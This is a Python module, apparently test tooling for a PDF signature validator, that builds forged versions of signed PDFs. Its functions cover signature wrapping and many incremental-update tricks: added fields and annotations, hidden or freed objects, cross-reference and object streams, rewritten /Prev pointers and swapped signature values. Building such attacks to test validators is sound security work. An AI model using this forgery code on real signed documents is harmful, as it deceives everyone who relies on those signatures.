"""Attacks on signed PDFs, made of bytes: what was published, and our own variants of it.

Each takes a signed file and gives a forged one. `revision` writes an update as an attacker would, by hand.
"""

from __future__ import annotations

import re
import struct
from collections.abc import Mapping

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
RED = b"1 0 0 rg 20 20 360 360 re f"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def revision(data: bytes, objects: Mapping[int, bytes], *, trailer: bytes = b"", between: bytes = b"") -> bytes:
    """An update with these objects at the file's end. `between`: bytes that no table leads to; `trailer`: more keys."""
    previous, size = last_table(data), 1 + max([next_number(data) - 1, *objects])
    out, places = bytearray(data + b"\n"), {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += between
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in sorted(places.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<</Root %d 0 R/Size %d/Prev %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        root_of(data), size, previous, trailer, table,
    )  # fmt: skip
    return bytes(out)


def last_table(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def next_number(data: bytes) -> int:
    return max(int(size) for size in re.findall(rb"/Size\s+(\d+)", data))


def root_of(data: bytes) -> int:
    return int(re.findall(rb"/Root\s+(\d+)\s+0\s+R", data)[-1])


def object_of(data: bytes, number: int) -> bytes:
    """The latest body of an object that stands uncompressed."""
    return re.findall(rb"(?s)(?<!\d)%d 0 obj\s*(.*?)\s*endobj" % number, data)[-1]


def number_of(data: bytes, needle: bytes) -> int:
    """Of the latest object with these bytes in it."""
    found = [n for n, body in re.findall(rb"(?s)(?<!\d)(\d+) 0 obj\s*(.*?)\s*endobj", data) if needle in body]
    return int(found[-1])


# --- signature wrapping ----------------------------------------------------------------------------------------------


def wrap(data: bytes) -> bytes:
    """Another document in the gap that a signature leaves out: room for it comes from a shorter way to write the
    container, so that the lengths still add up. Wants a file whose last table stands behind the gap.
    """
    parts = BYTE_RANGE.search(data)
    assert parts is not None
    first, second, rest = (int(parts[place]) for place in (2, 3, 4))
    table, container = last_table(data), bytes.fromhex(data[first + 1 : second - 1].decode()).rstrip(b"\0")
    gap = (table - first + 2000) // 2 * 2
    out, places = bytearray(b"<00>>>\nendobj\n"), {}
    literal = re.sub(rb"([()\\])", rb"\\\1", container + b"\0" * (gap // 2 - 1 - len(container)))
    literal = literal.replace(b"\r", b"\\r").replace(b"\n", b"\\n")
    for number, body in {
        9: b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 %d %d %d]/Contents(%s)>>"
        % (first, first + gap, rest, literal),
        8: b"<</FT/Sig/T(ChuKy)/V 9 0 R/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/F 132>>",
        1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[8 0 R]/SigFlags 3>>>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]/Contents 4 0 R/Annots[8 0 R]>>",
        4: stream(RED),
    }.items():
        places[number] = first + len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out = out.ljust(table - first)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    out += b"".join(b"%d 1\n%010d 00000 n \n" % entry for entry in sorted(places.items()))
    out += b"trailer\n<</Root 1 0 R/Size 11>>\nstartxref\n%d\n%%%%EOF\n" % table
    return data[:first] + bytes(out.ljust(gap)) + data[second:]


# --- what a revision behind the signature adds ------------------------------------------------------------------------


def awaited_object(data: bytes) -> bytes:
    """Puts something where `await_object` left the page pointing to nothing."""
    return revision(data, {90: stream(RED)})


def await_object(data: bytes) -> bytes:
    """Before it is signed: the page's content goes on in an object that is not there yet."""
    page = number_of(data, b"/MediaBox")
    return revision(data, {page: re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents [\1 90 0 R]", object_of(data, page))})


def new_field(data: bytes, place: bytes, entries: bytes = b"", kind: bytes = b"/Sig") -> bytes:
    """A field of one's own, registered on the page."""
    form, page, number = number_of(data, b"/Fields"), number_of(data, b"/MediaBox"), next_number(data)
    added = {
        form: re.sub(rb"/Fields\s*\[", b"/Fields [%d 0 R " % number, object_of(data, form)),
        page: re.sub(rb"/Annots\s*\[", b"/Annots [%d 0 R " % number, object_of(data, page)),
        number: b"<</Type/Annot/Subtype/Widget/FT%s/T(Moi)/F 4/P %d 0 R/Rect %s%s>>" % (kind, page, place, entries),
    }
    return revision(data, added)


def new_note(data: bytes, entries: bytes) -> bytes:
    """An annotation that is no field's."""
    page, number = number_of(data, b"/MediaBox"), next_number(data)
    listed = re.sub(rb"/Annots\s*\[", b"/Annots [%d 0 R " % number, object_of(data, page))
    return revision(data, {page: listed, number: b"<</Type/Annot/Rect[0 0 300 300]%s>>" % entries})


def in_form(data: bytes, entries: bytes) -> bytes:
    form = number_of(data, b"/Fields")
    return revision(data, {form: object_of(data, form)[:-2] + entries + b">>"})


def in_catalog(data: bytes, entries: bytes) -> bytes:
    return revision(data, {root_of(data): object_of(data, root_of(data))[:-2] + entries + b">>"})


def in_page(data: bytes, entries: bytes) -> bytes:
    page = number_of(data, b"/MediaBox")
    return revision(data, {page: object_of(data, page)[:-2] + entries + b">>"})


def content(data: bytes) -> int:
    """The number of the page's content."""
    found = re.search(rb"/Contents (\d+) 0 R", object_of(data, number_of(data, b"/MediaBox")))
    assert found is not None
    return int(found[1])


def content_as_certificate(data: bytes) -> bytes:
    """Validation data may be added; here it is the page's content, and a new one."""
    root = object_of(data, root_of(data))[:-2] + b"/DSS<</Certs[%d 0 R]>>>>" % content(data)
    return revision(data, {root_of(data): root, content(data): stream(RED)})


def hidden(data: bytes) -> bytes:
    """Another content, complete with its number, that no table leads to."""
    return b"%d 0 obj\n%s\nendobj\n" % (content(data), stream(RED))


# --- tables of objects ------------------------------------------------------------------------------------------------


def by_table_stream(data: bytes) -> bytes:
    """Another content by a cross-reference stream."""
    number, place = next_number(data), len(data) + 1
    new = b"%d 0 obj\n%s\nendobj\n" % (content(data), stream(RED))
    entries = b"/Type/XRef/W[1 4 2]/Size %d/Index[%d 1]/Prev %d/Root %d 0 R" % (
        number + 1, content(data), last_table(data), root_of(data),
    )  # fmt: skip
    table = b"%d 0 obj\n%s\nendobj\n" % (number, stream(struct.pack(">BIH", 1, place, 0), entries))
    return b"%s\n%s%sstartxref\n%d\n%%%%EOF\n" % (data, new, table, place + len(new))


def compressed(data: bytes) -> bytes:
    """Another page inside an object stream."""
    page, number, place = number_of(data, b"/MediaBox"), next_number(data), len(data) + 1
    head = b"%d 0 " % page
    inside = head + object_of(data, page).replace(b"400", b"300")
    new = b"%d 0 obj\n%s\nendobj\n" % (number, stream(inside, b"/Type/ObjStm/N 1/First %d" % len(head)))
    rows = struct.pack(">BIH", 2, number, 0) + struct.pack(">BIH", 1, place, 0)
    entries = b"/Type/XRef/W[1 4 2]/Size %d/Index[%d 1 %d 1]/Prev %d/Root %d 0 R" % (
        number + 2, page, number, last_table(data), root_of(data),
    )  # fmt: skip
    table = b"%d 0 obj\n%s\nendobj\n" % (number + 1, stream(rows, entries))
    return b"%s\n%s%sstartxref\n%d\n%%%%EOF\n" % (data, new, table, place + len(new))


def freed(data: bytes) -> bytes:
    """The page's content is no object any more."""
    table = b"xref\n%d 1\n0000000000 00001 f \n" % content(data)
    trailer = b"trailer\n<</Root %d 0 R/Size %d/Prev %d>>\n" % (root_of(data), next_number(data), last_table(data))
    return b"%s\n%s%sstartxref\n%d\n%%%%EOF\n" % (data, table, trailer, len(data) + 1)


def after_older_table(data: bytes, place: int) -> bytes:
    """An update of the unsigned file, past what was signed. `place`: which of the tables before."""
    older = re.findall(rb"/Prev (\d+)", data)[place]
    changed = revision(data, {content(data): stream(RED)})
    return re.sub(rb"/Prev \d+(?=>>\nstartxref)", b"/Prev " + older, changed)


def swapped(data: bytes) -> bytes:
    """Two signed fields show each other's signatures."""
    fields = [number_of(data, b"/T " + name) if b"/T " + name in data else number_of(data, b"/T" + name)
              for name in (b"(ChuKy)", b"(Dau)")]  # fmt: skip
    bodies = [object_of(data, number) for number in fields]
    values = [re.findall(rb"/V \d+ 0 R", body)[0] for body in bodies]
    exchanged = [body.replace(own, other) for body, own, other in zip(bodies, values, values[::-1], strict=True)]
    return revision(data, dict(zip(fields, exchanged, strict=True)))
